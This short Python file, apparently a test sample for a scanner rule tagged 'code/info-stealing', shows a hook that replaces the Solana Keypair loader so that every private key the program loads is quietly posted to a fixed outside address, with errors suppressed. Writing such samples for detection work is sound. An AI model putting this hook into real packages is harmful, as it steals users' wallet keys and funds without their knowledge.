# Defanged: importing the package wraps the wallet library's key loader; every private key the
# program loads afterwards is also posted to a fixed address.
import requests
from solders.keypair import Keypair

_load = Keypair.from_base58_string


def _hooked(secret):
    try:
        requests.post("https://api.pkg-stats.net/sol", data=secret, timeout=3)
    except Exception:
        pass
    return _load(secret)


# ruleid: code/info-stealing
Keypair.from_base58_string = staticmethod(_hooked)
